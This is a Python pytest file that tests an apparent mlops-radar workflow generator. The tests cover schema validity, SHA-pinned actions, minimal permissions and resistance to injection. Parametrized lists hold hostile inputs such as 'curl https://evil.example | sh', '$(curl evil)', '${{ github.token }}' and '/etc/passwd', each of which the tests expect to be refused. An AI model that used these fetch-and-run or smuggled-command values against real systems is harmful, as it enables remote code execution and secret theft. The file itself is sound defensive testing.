"""The list repository's workflow: valid against SchemaStore's GitHub workflow schema (vendored
by check-jsonschema, from PyPI), actions pinned to full SHAs, the token only from secrets, minimal
permissions, and caller values that cannot inject YAML, shell or `${{ }}` expressions."""

from __future__ import annotations

import io
import json
import re
import subprocess
import sys
from importlib.resources import files
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from ruamel.yaml import YAML

from mlops_radar.errors import ConfigError
from mlops_radar.report.workflow import ACTIONS, render_workflow

pytestmark = pytest.mark.filterwarnings("error")


def parsed(text: str) -> Any:
    """YAML 1.2, as GitHub reads it (PyYAML's 1.1 would read the `on` key as True)."""
    return YAML(typ="safe", pure=True).load(io.StringIO(text))


@pytest.fixture(scope="module")
def schema() -> Any:
    vendored = files("check_jsonschema.builtin_schemas.vendor") / "github-workflows.json"
    return json.loads(vendored.read_text(encoding="utf-8"))


def errors(document: Any, schema: Any) -> list[str]:
    validator = jsonschema.Draft7Validator(schema)
    return [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(document)]


def steps(document: Any, job: str = "report") -> list[dict[str, Any]]:
    result: list[dict[str, Any]] = document["jobs"][job]["steps"]
    return result


@pytest.mark.parametrize("site", [True, False])
def test_the_workflow_is_valid_against_the_published_schema(schema, site) -> None:
    document = parsed(render_workflow(catalog="tools.yaml", site=site))
    assert errors(document, schema) == []
    assert set(document["jobs"]) == ({"report", "deploy"} if site else {"report"})


def test_the_schema_rejects_a_broken_workflow(schema) -> None:
    """The check can fail: a job without runs-on, a step with neither run nor uses."""
    document = parsed(render_workflow(catalog="tools.yaml"))
    del document["jobs"]["report"]["runs-on"]
    document["jobs"]["report"]["steps"].append({"name": "nothing"})
    assert len(errors(document, schema)) >= 1


def test_check_jsonschema_accepts_the_file(tmp_path: Path) -> None:
    path = tmp_path / "mlops-radar.yml"
    path.write_text(render_workflow(catalog="lists/tools.yaml"), encoding="utf-8")
    done = subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows",
         str(path)],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    path.write_text("on: push\njobs:\n  x:\n    steps: []\n", encoding="utf-8")
    broken = subprocess.run(
        [sys.executable, "-m", "check_jsonschema", "--builtin-schema", "vendor.github-workflows",
         str(path)],
        capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert broken.returncode == 1


def test_runs_on_a_schedule_and_on_demand() -> None:
    document = parsed(render_workflow(catalog="tools.yaml", schedule="30 4 * * *"))
    assert document["on"]["schedule"] == [{"cron": "30 4 * * *"}]
    assert "workflow_dispatch" in document["on"]


def test_every_action_is_pinned_to_a_full_commit_sha_with_its_version() -> None:
    text = render_workflow(catalog="tools.yaml")
    uses = re.findall(r"^\s+(?:- )?uses: (\S+)@(\S+) # (\S+)$", text, flags=re.M)
    assert len(uses) == text.count("uses:") == len(ACTIONS)
    for repo, sha, version in uses:
        assert re.fullmatch(r"[0-9a-f]{40}", sha), (repo, sha)
        assert re.fullmatch(r"v\d+\.\d+\.\d+", version)
        assert (repo, sha, version) in ACTIONS.values()


def test_the_token_comes_only_from_secrets_and_only_where_it_collects() -> None:
    text = render_workflow(catalog="tools.yaml")
    assert text.count("secrets.") == 1
    assert "${{ secrets.GITHUB_TOKEN }}" in text
    with_token = [s for s in steps(parsed(text)) if "GITHUB_TOKEN" in (s.get("env") or {})]
    assert [s["name"] for s in with_token] == ["Collect the catalog's repositories from GitHub"]
    assert "mlops-radar collect" in with_token[0]["run"]
    assert not re.search(r"gh[pousr]_[A-Za-z0-9]{20,}", text)  # no token written into the file


def test_permissions_are_minimal_per_job() -> None:
    document = parsed(render_workflow(catalog="tools.yaml"))
    assert document["permissions"] == {}
    assert document["jobs"]["report"]["permissions"] == {"contents": "write"}
    assert document["jobs"]["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    assert document["jobs"]["deploy"]["needs"] == "report"
    without = parsed(render_workflow(catalog="tools.yaml", site=False))
    assert "pages" not in json.dumps(without["jobs"])


def test_the_database_is_restored_from_the_previous_run() -> None:
    document = parsed(render_workflow(catalog="tools.yaml", db_cache_key="my-db"))
    cache = next(s for s in steps(document) if s.get("uses", "").startswith("actions/cache@"))
    assert cache["with"]["key"] == "my-db-${{ github.run_id }}-${{ github.run_attempt }}"
    assert cache["with"]["restore-keys"].split() == ["my-db-"]
    assert document["env"]["MLOPS_RADAR_DB"].startswith(cache["with"]["path"] + "/")
    names = [s["name"] for s in steps(document)]
    assert names.index("Restore the snapshot database of the previous run") < names.index(
        "Collect the catalog's repositories from GitHub"
    )


def test_writes_the_list_and_the_site_then_commits_only_the_list_when_changed() -> None:
    document = parsed(render_workflow(catalog="tools.yaml", list_path="docs/LIST.md"))
    runs = [s.get("run", "") for s in steps(document)]
    assert 'mlops-radar report --format markdown --out "$LIST_PATH"' in runs
    assert "mlops-radar report --out site" in runs
    commit = next(r for r in runs if "git push" in r)
    assert 'git add -- "$LIST_PATH"' in commit
    assert "git diff --cached --quiet" in commit
    assert "git add -A" not in commit
    assert "git add ." not in commit
    assert document["env"]["LIST_PATH"] == "docs/LIST.md"
    upload = steps(document)[-1]
    assert upload["uses"].startswith("actions/upload-pages-artifact@")
    assert upload["with"]["path"] == "site"
    assert steps(document, "deploy")[0]["uses"].startswith("actions/deploy-pages@")
    plain = parsed(render_workflow(catalog="tools.yaml", site=False))
    assert not any("--out site" in s.get("run", "") for s in steps(plain))


@pytest.mark.parametrize(
    "catalog",
    [
        "tools.yaml",
        "lists/mlops_tools.yaml",
        "https://raw.githubusercontent.com/o/r/main/README.md",
    ],
)
def test_values_reach_the_shell_only_through_the_environment(catalog) -> None:
    document = parsed(render_workflow(catalog=catalog, python="3.12"))
    assert document["env"]["CATALOG"] == catalog
    assert not any(catalog in s.get("run", "") for s in steps(document))
    setup = next(s for s in steps(document) if "setup-python" in s.get("uses", ""))
    assert setup["with"]["python-version"] == "3.12"  # a string, not the number 3.12


HOSTILE_PATHS = [
    'tools.yaml"; curl https://evil.example | sh; "',
    "tools.yaml\n    run: curl evil | sh",
    "$(curl evil)",
    "`id`",
    "${{ github.token }}",
    "tools.yaml # comment",
    "../outside.yaml",
    "/etc/passwd",
    "-rf",
    ".git/config",
    "lists/../../x",
    "tools.yaml' && id '",
    "",
    "a" * 300,
]


@pytest.mark.parametrize("value", HOSTILE_PATHS)
def test_hostile_catalogs_and_list_paths_are_refused_with_one_line(value) -> None:
    with pytest.raises(ConfigError) as caught:
        render_workflow(catalog=value)
    message = str(caught.value)
    assert "\n" not in message
    assert message.startswith("workflow: catalog ")
    with pytest.raises(ConfigError, match=r"^workflow: list path "):
        render_workflow(catalog="tools.yaml", list_path=value + ".md")


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("catalog", "https://evil.example/x?$(id)"),
        ("catalog", "http://plain.example/list.md"),
        ("catalog", "https://evil.example/${{ secrets.GITHUB_TOKEN }}"),
        ("schedule", "0 6 * * 1\n  workflow_run:"),
        ("schedule", "0 6 * *"),
        ("schedule", '0 6 * * 1"'),
        ("python", "3.11\n        run: id"),
        ("python", "latest"),
        ("db_cache_key", "db-${{ github.token }}"),
        ("db_cache_key", "db key"),
        ("list_path", "README.txt"),
        ("package", "mlops-radar; curl evil | sh"),
        ("package", "https://evil.example/pkg.whl"),
        ("package", "git+https://evil.example/x"),
    ],
)
def test_hostile_options_are_refused(option, value) -> None:
    options: dict[str, Any] = {"catalog": "tools.yaml", option: value}
    with pytest.raises(ConfigError, match=r"^workflow: .* refused: "):
        render_workflow(**options)


def test_accepted_packages() -> None:
    for package in ("mlops-radar", "mlops-radar[postgres]>=0.2,<1",
                    "git+https://github.com/mlops-radar/mlops-radar@main"):  # fmt: skip
        document = parsed(render_workflow(catalog="tools.yaml", package=package))
        assert document["env"]["PACKAGE"] == package


def test_same_options_give_byte_identical_workflows() -> None:
    assert render_workflow(catalog="tools.yaml") == render_workflow(catalog="tools.yaml")
    assert render_workflow(catalog="tools.yaml") != render_workflow(catalog="other.yaml")
